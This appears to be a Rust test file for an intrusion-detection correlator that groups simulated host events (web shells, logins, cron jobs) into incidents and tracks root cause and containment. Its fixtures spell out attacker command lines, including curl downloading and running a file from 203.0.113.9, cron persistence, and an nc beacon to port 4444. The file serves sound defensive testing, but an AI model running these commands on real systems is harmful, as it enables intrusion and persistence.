//! Owns: stories that stay on one host.
//! Never: the network between hosts.

use picket_model::*;

use super::world::*;
use crate::correlate::Effect;

const NGINX: &[&str] = &["/usr/sbin/nginx", "-g", "daemon off;"];

/// nginx spawns a shell, which downloads a file, runs it, and the file makes itself a cron job.
fn web_shell(story: &mut Story) -> Vec<DetectionId> {
    let web = host(1);
    let nginx = story.running(&story.init(), 100, NGINX);
    story.wait(1000);
    let (sh, shell) = story.start_detected(web, &nginx, 101, &["/bin/sh", "-c", "id"], "Shell of a web server");
    story.wait(500);
    let curl = story.start(web, &sh, 102, &["/usr/bin/curl", "-o", "/tmp/x", "http://203.0.113.9/x"]);
    story.connect(web, &curl, "10.0.0.1:40000", "203.0.113.9:80");
    let written = story.file(web, &curl, FileActivity::Create, "/tmp/x");
    let download = story.detect(web, &written, &curl, "Download to tmp", Severity::Medium);
    story.wait(500);
    let x = story.start(web, &sh, 103, &["/tmp/x"]);
    story.wait(500);
    let cron = story.file(web, &x, FileActivity::Create, "/etc/cron.d/x");
    let persistence = story.detect(web, &cron, &x, "Cron persistence", Severity::High);
    vec![shell, download, persistence]
}

#[test]
fn a_web_shell_is_one_incident_with_its_path_in_order() {
    let mut story = Story::new();
    let detections = web_shell(&mut story);
    let incident = tell(&story).only();
    assert_eq!(incident.detections, detections);
    assert_eq!(incident.title, "Shell of a web server on host-1");
    assert_eq!((incident.severity, incident.status), (Severity::High, IncidentStatus::Open));
    assert_eq!(incident.techniques.len(), 3);
    assert_eq!(
        path(&incident),
        [
            "host-1: /usr/sbin/nginx -g daemon off; Spawned host-1: /bin/sh -c id",
            "host-1: /bin/sh -c id Spawned host-1: /usr/bin/curl -o /tmp/x http://203.0.113.9/x",
            "host-1: /usr/bin/curl -o /tmp/x http://203.0.113.9/x Created host-1: /tmp/x",
            "host-1: /bin/sh -c id Spawned host-1: /tmp/x",
            "host-1: /tmp/x Created host-1: /etc/cron.d/x",
        ]
    );
    assert_eq!(incident.root, Some(incident.path[0].from.clone()));
}

#[test]
fn a_client_from_outside_is_the_root_cause() {
    let mut story = Story::new();
    let web = host(1);
    let nginx = story.running(&story.init(), 100, NGINX);
    story.accept(web, &nginx, "10.0.0.1:443", "198.51.100.7:50123");
    story.start_detected(web, &nginx, 101, &["/bin/sh", "-c", "id"], "Shell of a web server");
    let incident = tell(&story).only();
    assert_eq!(path(&incident)[0], "198.51.100.7 Reached host-1: /usr/sbin/nginx -g daemon off;");
    assert_eq!(incident.root, Some(EntityRef::Address { ip: "198.51.100.7".parse().unwrap(), port: 0 }));
}

#[test]
fn strangers_on_one_host_stay_apart() {
    let mut story = Story::new();
    let init = story.init();
    let nginx = story.running(&init, 100, NGINX);
    let sshd = story.running(&init, 200, &["/usr/sbin/sshd", "-D"]);
    let cron = story.running(&init, 300, &["/usr/sbin/cron", "-f"]);
    story.start_detected(host(1), &nginx, 101, &["/bin/sh"], "Shell of a web server");
    for (login, pid) in [(1000, 210), (1001, 220)] {
        let session = logged_in(&story.fork(host(1), &sshd, pid), login);
        story.start_detected(host(1), &session, pid + 1, &["/bin/bash"], "Odd login");
    }
    for pid in [310, 320] {
        let job = story.fork(host(1), &cron, pid);
        story.start_detected(host(1), &job, pid + 1, &["/bin/sh", "-c", "job"], "Odd job");
    }
    assert_eq!(tell(&story).incidents().len(), 5);
}

#[test]
fn a_program_named_cron_by_an_intruder_does_not_cut_the_lineage() {
    let mut story = Story::new();
    let nginx = story.running(&story.init(), 100, NGINX);
    let (fake, _) = story.start_detected(host(1), &nginx, 101, &["/tmp/cron"], "Odd program");
    story.start_detected(host(1), &fake, 102, &["/bin/sh"], "Shell");
    assert_eq!(tell(&story).only().detections.len(), 2);
}

#[test]
fn one_login_that_comes_back_within_minutes_is_one_story_and_the_next_day_another() {
    let mut story = Story::new();
    let sshd = story.running(&story.init(), 200, &["/usr/sbin/sshd", "-D"]);
    for (pid, pause_ms) in [(210, 0), (220, 5 * 60_000), (230, 24 * 3_600_000)] {
        story.wait(pause_ms);
        let session = logged_in(&story.fork(host(1), &sshd, pid), 1000);
        story.start_detected(host(1), &session, pid + 1, &["/bin/bash"], "Odd login");
    }
    let mut sizes: Vec<usize> = tell(&story).incidents().iter().map(|incident| incident.detections.len()).collect();
    sizes.sort_unstable();
    assert_eq!(sizes, [1, 2]);
}

#[test]
fn what_cron_runs_belongs_to_who_wrote_it() {
    let mut story = Story::new();
    web_shell(&mut story);
    let cron = story.running(&story.init(), 300, &["/usr/sbin/cron", "-f"]);
    story.wait(60_000);
    let job = story.fork(host(1), &cron, 301);
    let sh = story.start(host(1), &job, 302, &["/bin/sh", "/tmp/x"]);
    let (_, beacon) = story.start_detected(host(1), &sh, 303, &["/usr/bin/nc", "203.0.113.9", "4444"], "Beacon");
    let incident = tell(&story).only();
    assert!(incident.detections.contains(&beacon));
}

#[test]
fn contained_means_every_detection_is_answered() {
    let mut story = Story::new();
    let nginx = story.running(&story.init(), 100, NGINX);
    let (sh, first) = story.start_detected(host(1), &nginx, 101, &["/bin/sh"], "Shell");
    story.start_detected(host(1), &sh, 102, &["/usr/bin/nc"], "Beacon");
    let other = story.running(&nginx, 150, &["/bin/dash"]);
    let (_, third) = story.start_detected(host(1), &other, 151, &["/usr/bin/wget"], "Download");
    let kill = |pid: &Proc| ActionKind::KillTree { target: pid.key };
    story.report(host(1), first, kill(&sh), ActionState::Applied);
    assert_eq!(tell(&story).only().status, IncidentStatus::Open, "the third is still at large");
    story.report(host(1), third, kill(&other), ActionState::Asked);
    assert_eq!(tell(&story).only().status, IncidentStatus::Open, "a question is not an answer");
    let mut answered = story.records.pop().unwrap();
    if let Record::Action { report } = &mut answered.1 {
        report.state = ActionState::Applied;
    }
    story.records.push(answered);
    let incident = tell(&story).only();
    assert_eq!(incident.status, IncidentStatus::Contained);
    assert_eq!(incident.actions.len(), 2);
}

#[test]
fn a_closed_incident_attracts_nothing_more() {
    let mut story = Story::new();
    let nginx = story.running(&story.init(), 100, NGINX);
    let (sh, _) = story.start_detected(host(1), &nginx, 101, &["/bin/sh"], "Shell");
    let mut told = tell(&story);
    let first = told.only().id;
    let effects = told.estate.close(first, Timestamp::from_millis(9_000_000));
    assert!(matches!(&effects[..], [Effect::Upsert(incident)] if incident.status == IncidentStatus::Closed));
    assert!(told.estate.close(first, Timestamp::from_millis(9_000_000)).is_empty());
    let known = story.records.len();
    story.start_detected(host(1), &sh, 102, &["/usr/bin/nc"], "Beacon");
    for (host, record) in &story.records[known..] {
        told.hear(*host, record);
    }
    let open: Vec<Incident> =
        told.incidents().into_iter().filter(|incident| incident.status != IncidentStatus::Closed).collect();
    assert_eq!(open.len(), 1);
    assert_eq!(open[0].detections.len(), 1);
}

#[test]
fn an_exec_renames_the_process_on_the_path() {
    let mut story = Story::new();
    let nginx = story.running(&story.init(), 100, NGINX);
    let (sh, _) = story.start_detected(host(1), &nginx, 101, &["/bin/sh"], "Shell");
    let mut told = tell(&story);
    let known = story.records.len();
    let becomes = story.running(&nginx, sh.key.pid, &["/usr/bin/python3", "-c", "import pty"]);
    story.event(host(1), &becomes, Activity::ProcessLaunch);
    let effects = told.hear(story.records[known].0, &story.records[known].1);
    let [Effect::Upsert(incident)] = &effects[..] else { panic!("one update is expected: {effects:?}") };
    assert_eq!(incident.path[0].to_label, "host-1: /usr/bin/python3 -c import pty");
}
